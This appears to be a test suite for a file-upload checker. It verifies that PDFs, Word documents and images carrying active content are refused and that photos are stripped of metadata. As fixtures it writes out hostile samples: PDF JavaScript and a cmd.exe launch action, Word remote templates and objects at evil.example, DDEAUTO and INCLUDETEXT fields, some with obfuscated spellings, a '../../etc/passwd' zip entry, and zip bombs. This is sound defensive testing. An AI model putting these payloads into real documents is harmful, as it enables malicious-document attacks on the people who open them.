import { readFileSync } from "node:fs";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { inspectFile } from "@/lib/files/inspect";
import { MOST_BYTES } from "@/lib/files/kinds";
import { aDocx, aPdf, aPhoto, aZip, coreProps, onDisk, packed } from "./made";

/** What becomes of a file of this name: its kind, or why it is not taken. */
async function judged(bytes: Buffer | string, name: string, size = Buffer.byteLength(bytes)) {
  const looked = await inspectFile(onDisk(bytes), { name, size });
  return looked.ok ? looked.kind : looked.why;
}
const found = async (bytes: Buffer, name: string) => {
  const looked = await inspectFile(onDisk(bytes), { name, size: bytes.length });
  return looked.ok ? looked.found : looked.why;
};

describe("name and bytes", () => {
  it("takes what both agree on", async () => {
    expect(await judged(aPdf(), "Agenda.pdf")).toBe("pdf");
    expect(await judged(aPdf(), "Informe.docx.PDF")).toBe("pdf");
    expect(await judged(aDocx(), "Nota.docx")).toBe("docx");
    expect(await judged(await aPhoto(), "sala.jpeg")).toBe("jpg");
    const image = sharp({ create: { width: 4, height: 4, channels: 4, background: "#0000" } });
    expect(await judged(await image.clone().png().toBuffer(), "a.png")).toBe("png");
    expect(await judged(await image.clone().webp().toBuffer(), "a.webp")).toBe("webp");
  });

  it.each([
    ["an empty file", "", "a.pdf", "empty"],
    ["a type that is not taken", "<svg onload=alert(1)>", "a.svg", "type"],
    ["a page of the web", "<html><script>1</script></html>", "a.html", "type"],
    ["a page of the web called a PDF", "<html><script>1</script></html>", "a.pdf", "other"],
    ["a program called a PDF", "MZ\u0090\u0000", "a.pdf", "other"],
    ["a PDF called a picture", aPdf(), "a.png", "other"],
    ["a document called a PDF", aDocx(), "a.pdf", "other"],
    ["a document called a table", aDocx(), "a.xlsx", "other"],
    ["a zip called a document", aZip([{ name: "a.txt", text: "a" }]), "a.docx", "other"],
    ["an ending that turns round", aPdf(), "gnp.\u202efdp.pdf", "hidden"],
    ["a control character in the name", aPdf(), "a\u0000.pdf", "hidden"],
    ["a program before the ending", aPdf(), "factura.exe.pdf", "disguised"],
    ["a page before the ending", aPdf(), "factura.html.pdf", "disguised"],
    ["no ending", aPdf(), "factura", "type"],
  ])("refuses %s", async (_, bytes, name, why) => {
    expect(await judged(bytes, name)).toBe(why);
  });

  it("refuses what is larger than any file may be without opening it", async () => {
    expect(await judged(aPdf(), "a.pdf", MOST_BYTES + 1)).toBe("large");
  });
});

describe("a PDF", () => {
  it.each([
    ["JavaScript", { more: "5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj" }],
    ["JavaScript spelled in part by codes", { more: "5 0 obj\n<< /S /Java#53cript /JS (1) >>\nendobj" }],
    ["JavaScript packed with other objects", { more: packed("5 0 << /S /JavaScript /JS (1) >>") }],
    ["the start of a program", { more: "5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj" }],
    ["another file", { more: "5 0 obj\n<< /Type /EmbeddedFile >>\nendobj" }],
    ["a form that sends", { more: "5 0 obj\n<< /S /SubmitForm /F (https://x.example) >>\nendobj" }],
  ])("with %s is refused", async (_, parts) => {
    expect(await judged(aPdf(parts), "a.pdf")).toBe("acts");
  });

  it("that cannot be looked through is refused: encrypted, cut off, or packed in an unknown way", async () => {
    expect(await judged(aPdf({ trailer: "/Encrypt 7 0 R" }), "a.pdf")).toBe("locked");
    expect(await judged(aPdf().subarray(0, -8), "a.pdf")).toBe("broken");
    expect(await judged(aPdf({ more: packed("5 0 << >>", "/LZWDecode") }), "a.pdf")).toBe("broken");
    expect(await judged(aPdf({ more: packed("5 0 << >>").replace("x\u009c", "xx") }), "a.pdf")).toBe("broken");
  });

  it("with links and ordinary packed objects is taken", async () => {
    const link = "5 0 obj\n<< /S /URI /URI (https://iom.int/JavaScript-free) >>\nendobj";
    expect(await judged(aPdf({ more: `${link}\n${packed("5 0 << /Type /Font >>")}` }), "a.pdf")).toBe("pdf");
  });

  it.each([
    ["names of packed objects far from any", `${"/ObjStm ".repeat(60_000)}\nstream\nx\nendstream`],
    ["packed objects that all end at one place", `${"/ObjStm stream\n".repeat(60_000)}\nendstream`],
    ["names of authors that never end", "<dc:creator>".repeat(200_000) + "/Author(".repeat(200_000)],
  ])("made of %s costs no more time than another", async (_, more) => {
    const began = performance.now();
    await judged(aPdf({ more }), "a.pdf");
    expect(performance.now() - began).toBeLessThan(1500);
  });

  it("tells whom it names as author, however that is written", async () => {
    expect(await found(aPdf({ info: "/Author (Ana Ru\\355z \\(MINSA\\))" }), "a.pdf")).toEqual({
      names: ["Ana Ruíz (MINSA)"],
      remarks: false,
    });
    expect(await found(aPdf({ info: "/Author <FEFF0041006E0061>" }), "a.pdf")).toMatchObject({ names: ["Ana"] });
    expect(await found(aPdf({ more: packed("5 0 << /Author (Luis) >>") }), "a.pdf")).toMatchObject({ names: ["Luis"] });
    const xmp = Buffer.from("<dc:creator><rdf:Seq><rdf:li>Noé &amp; Cía</rdf:li></rdf:Seq></dc:creator>").toString("latin1");
    expect(await found(aPdf({ more: xmp }), "a.pdf")).toMatchObject({ names: ["Noé & Cía"] });
    expect(await found(aPdf(), "a.pdf")).toEqual({ names: [], remarks: false });
  });
});

const kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const away = (part: string, rels: string): Buffer => aDocx([{ name: `word/_rels/${part}.xml.rels`, text: rels }]);

const written = (body: string): Buffer => aDocx([], { body });
const instr = (text: string): string => `<w:instrText xml:space="preserve">${text}</w:instrText>`;
const field = (inside: string): string =>
  `<w:fldChar w:fldCharType="begin"/>${inside}<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>`;

describe("a document of an office program", () => {
  it.each([
    ["a macro", aDocx([{ name: "word/vbaProject.bin", text: "x" }])],
    [
      "a type that allows macros",
      aDocx([], { types: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' }),
    ],
    ["a control", aDocx([{ name: "word/activeX/activeX1.xml", text: "x" }])],
  ])("with %s is refused", async (_, bytes) => {
    expect(await judged(bytes, "a.docx")).toBe("acts");
  });

  it.each([
    [
      "a template from elsewhere",
      aDocx([
        {
          name: "word/_rels/settings.xml.rels",
          text: '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        },
      ]),
    ],
    [
      "a template whose address stands first",
      away("settings", '<Relationship TargetMode="External" Target="https://evil.example/t.dotm" Type="http://x/attachedTemplate"/>'),
    ],
    [
      "a template whose kind is spelled by codes",
      away("settings", '<r:Relationship Type="http://x/attachedT&#x65;mplate" Target="&#104;ttps://evil.example/t.dotm"/>'),
    ],
    [
      "a template behind a local one",
      away("settings", `<Relationship Id=' Target="file:///C:/a"' Target="https://evil.example/t" Type="http://x/attachedTemplate"/>`),
    ],
    [
      "an object from elsewhere",
      away("document", `<Relationship Type="${kinds}/oleObject" Target="mhtml:https://e.example/x!https://e"/>`),
    ],
    ["a frame from elsewhere", away("webSettings", `<Relationship Type="${kinds}/frame" Target="\\\\evil.example\\x" />`)],
    [
      "a picture from elsewhere",
      away("document", `<Relationship Type="${kinds}/image" Target="https://e.example/a.png" TargetMode="External"/>`),
    ],
    ["a picture of another machine's disk", away("header1", `<Relationship Type="${kinds}/image" Target="a.png" TargetMode="External"/>`)],
    [
      "a picture that calls itself a link too",
      away("document", `<Relationship Id=' Type="${kinds}/hyperlink"' Type="${kinds}/image" Target="https://e.example/a.png"/>`),
    ],
    ["a page put in among its text", away("document", `<Relationship Type="${kinds}/aFChunk" Target="afchunk.html"/>`)],
    ["an embedded object", away("document", `<Relationship Type="${kinds}/oleObject" Target="embeddings/oleObject1.bin"/>`)],
    ["an embedded document", away("document", `<Relationship Type="${kinds}/package" Target="embeddings/a.docx"/>`)],
    ["links to other tables", aDocx([{ name: "xl/externalLinks/externalLink1.xml", text: "<ddeLink/>" }])],
    ["a field that runs a program", written(field(instr("DDEAUTO c:\\\\cmd.exe")))],
    ["one whose name is cut in two", written(field(`${instr(" DDE")}<w:r>${instr("AUTO c:\\\\cmd.exe")}</w:r>`))],
    ["one whose name is spelled by codes", written(field(instr("&#68;DE a b")))],
    ["one whose name another field computes", written(field(field(instr("QUOTE 68 68 69")) + instr(" a b")))],
    ["one within another", written(field(instr("IF 1 = 1 ") + field(instr("INCLUDETEXT https://e.example/a.docx"))))],
    ["one that never ends", written(`<w:fldChar w:fldCharType="begin"/>${instr("LINK Excel.Sheet a.xlsx")}`)],
    ["one behind a bracket", written(field(`<w:instrText xml:space=">">DDE a`))],
    ["one behind a comment", written(field(`<w:instrText>DDE<!-- -->AUTO a</w:instrText>`))],
    ["a short field that fetches a picture", written(`<w:fldSimple w:instr=' includepicture "https://e.example/a.png" \\d'/>`)],
    ["such a field at its foot", aDocx([{ name: "word/footer2.xml", text: `<w:ftr>${field(instr("AUTOTEXT evil"))}</w:ftr>` }])],
  ])("with %s is refused, and told to be without", async (_, bytes) => {
    expect(await judged(bytes, "a.docx")).toBe("brings");
  });

  it("with fields that count and date, and the table behind a chart, is taken", async () => {
    const fields = ["PAGE", ' DATE \\@ "d MMMM" ', 'HYPERLINK "https://iom.int"', "MACROBUTTON NoMacro [Nombre]", "REF a"].map((text) =>
      field(instr(text)),
    );
    expect(await judged(written(`${fields.join("")}<w:fldSimple w:instr="NUMPAGES"/>LINK DDE`), "a.docx")).toBe("docx");
    const chart = `<Relationship Type="${kinds}/package" Target="../embeddings/Microsoft_Excel_Sheet1.xlsx"/>`;
    expect(await judged(aDocx([{ name: "word/charts/_rels/chart1.xml.rels", text: chart }]), "a.docx")).toBe("docx");
  });

  it("with links and the template of its own machine is taken", async () => {
    const link = `<Relationship Type="${kinds}/hyperlink" Target="https://iom.int/oleObject" TargetMode="External"/>`;
    const own = `<Relationship Type="${kinds}/attachedTemplate" Target="file:///C:/Users/ana/Normal.dotm" TargetMode="External"/>`;
    expect(await judged(away("document", link + own), "a.docx")).toBe("docx");
  });

  it("whose description nobody here can read as programs do is refused: in another encoding, twice, or behind a long end", async () => {
    const rels = `<Relationship Type="${kinds}/attachedTemplate" Target="https://evil.example/t.dotm"/>`;
    expect(await judged(aDocx([{ name: "word/_rels/settings.xml.rels", text: Buffer.from(rels, "utf16le") }]), "a.docx")).toBe("broken");
    expect(await judged(aDocx([{ name: "[Content_Types].xml", text: "<Types/>" }]), "a.docx")).toBe("broken");
    expect(await judged(away("settings", " ".repeat(9_000_000) + rels), "a.docx")).toBe("bomb");
  });

  it("costs no more time than another, whatever its descriptions repeat", async () => {
    const began = performance.now();
    await judged(away("settings", 'attachedTemplate" '.repeat(50_000)), "a.docx");
    await judged(away("settings", '<Relationship Target="'.repeat(300_000)), "a.docx");
    await judged(written("<w:fldChar w:instrText <w:fldSimple ".repeat(60_000)), "a.docx");
    expect(performance.now() - began).toBeLessThan(1500);
  });

  it("that unpacks beyond every measure is refused, whatever size it claims", async () => {
    const zeros = Buffer.alloc(4_000_000);
    expect(await judged(aDocx([{ name: "word/media/a.bin", text: zeros, claims: 300_000_000 }]), "a.docx")).toBe("bomb");
    expect(await judged(aDocx([{ name: "word/media/a.bin", text: zeros, claims: 10 }]), "a.docx")).toBe("broken");
    const many = Array.from({ length: 4100 }, (_, i) => ({ name: `word/media/${i}`, text: "" }));
    expect(await judged(aDocx(many), "a.docx")).toBe("bomb");
  });

  it("whose parts lead out of it, or that is cut off, is refused", async () => {
    expect(await judged(aDocx([{ name: "../../etc/passwd", text: "x" }]), "a.docx")).toBe("broken");
    expect(await judged(aDocx().subarray(0, -30), "a.docx")).toBe("broken");
  });

  it("tells whom it names and whether it holds remarks", async () => {
    expect(await found(aDocx([coreProps("Ana Ruiz", "Luis &amp; Soto")]), "a.docx")).toEqual({
      names: ["Ana Ruiz", "Luis & Soto"],
      remarks: false,
    });
    expect(await found(aDocx([{ name: "word/comments.xml", text: "<w:comments/>" }]), "a.docx")).toEqual({ names: [], remarks: true });
    expect(await found(aDocx([], { body: '<w:ins w:author="Ana">x</w:ins>' }), "a.docx")).toMatchObject({ remarks: true });
    expect(await found(aDocx(), "a.docx")).toEqual({ names: [], remarks: false });
  });
});

describe("an image", () => {
  it("is written anew, upright and without what it knew of place and people", async () => {
    const bytes = await aPhoto();
    expect(bytes.includes("Ana Ruiz")).toBe(true);
    const path = onDisk(bytes);
    expect(await inspectFile(path, { name: "a.jpg", size: bytes.length })).toMatchObject({ ok: true, kind: "jpg" });
    const after = readFileSync(path);
    expect(after.includes("Ana Ruiz")).toBe(false);
    const { width, height, exif, orientation } = await sharp(after).metadata();
    expect({ width, height, exif, orientation }).toEqual({ width: 30, height: 60, exif: undefined, orientation: undefined });
  });

  it("carries nothing that was hung on to it", async () => {
    const path = onDisk(Buffer.concat([await aPhoto(), Buffer.from("<script>alert(1)</script>")]));
    await inspectFile(path, { name: "a.jpg", size: 900 });
    expect(readFileSync(path).includes("<script>")).toBe(false);
  });

  it("of too many pixels is refused before it is unpacked", async () => {
    const wide = await sharp({ create: { width: 12_000, height: 8_000, channels: 3, background: "#fff" }, limitInputPixels: false })
      .png()
      .toBuffer();
    expect(wide.length).toBeLessThan(1_000_000);
    expect(await judged(wide, "a.png")).toBe("pixels");
  });

  it("that is cut off is refused", async () => {
    const whole = await sharp({
      create: { width: 400, height: 400, channels: 3, background: "#048", noise: { type: "gaussian", mean: 90, sigma: 40 } },
    })
      .png()
      .toBuffer();
    expect(await judged(whole.subarray(0, whole.length / 2), "a.png")).toBe("broken");
  });
});
